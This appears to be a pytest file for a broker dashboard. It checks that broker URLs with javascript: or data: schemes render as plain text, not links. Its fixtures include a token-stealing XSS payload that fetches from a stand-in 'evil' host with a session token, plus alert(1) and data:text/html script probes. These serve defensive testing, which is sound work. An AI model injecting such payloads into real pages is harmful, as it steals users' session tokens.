"""The dashboard links only to http(s) URLs: a broker registration saying
`javascript:...` is shown as text. The page's own rendering functions, run in Node
(the script is evaluated with its start-up lines left out and a stub document)."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

APP_JS = Path(__file__).resolve().parents[2] / "stableline/broker/dashboard/static/app.js"


def _render(expressions: list[str]) -> list[str]:
    node = shutil.which("node") or shutil.which("nodejs")
    if node is None:
        pytest.skip("no node to run the dashboard's script")
    source = APP_JS.read_text()
    # Everything but the last two statements, which start the page in a browser.
    body = source[: source.rindex('window.addEventListener("hashchange"')]
    program = (
        "globalThis.document = { getElementById: () => null };\n"
        + body
        + f"\nconsole.log(JSON.stringify([{', '.join(expressions)}]));\n"
    )
    run = subprocess.run([node, "-e", program], capture_output=True, text=True, timeout=30)
    assert run.returncode == 0, run.stderr
    return json.loads(run.stdout)


def _broker(http_url: str) -> str:
    document = {
        "brokerId": "10.0.0.9:6650",
        "httpUrl": http_url,
        "live": True,
        "thisBroker": False,
        "load": {"loadedTopics": 0, "connections": 0},
    }
    return f"render(brokerRow({json.dumps(document)}))"


def test_a_javascript_http_url_is_rendered_as_text_not_a_link():
    forged, upper, data, good, tls = _render(
        [
            _broker("javascript:fetch('//evil/'+sessionStorage.getItem(TOKEN_KEY))"),
            _broker("JAVASCRIPT:alert(1)"),
            _broker("data:text/html,<script>alert(1)</script>"),
            _broker("http://10.0.0.9:8080"),
            _broker("https://10.0.0.9:8443"),
        ]
    )
    for row in (forged, upper, data):
        assert "<a " not in row and "href" not in row, row
    assert '<a href="http://10.0.0.9:8080/">http://10.0.0.9:8080</a>' in good
    assert '<a href="https://10.0.0.9:8443/">' in tls


def test_owner_links_need_an_http_url_too():
    state = (
        "{byId: new Map([['b:1', {brokerId: 'b:1', live: true, thisBroker: false, "
        "httpUrl: 'javascript:alert(1)'}]]), owners: {'persistent://t/n/x': 'b:1'}}"
    )
    href, cell = _render(
        [
            f"ownerTopicHref({state}, 'persistent://t/n/x')",
            f"render(ownerCell({state}, 'persistent://t/n/x'))",
        ]
    )
    assert href is None
    assert "href" not in cell and "b:1" in cell
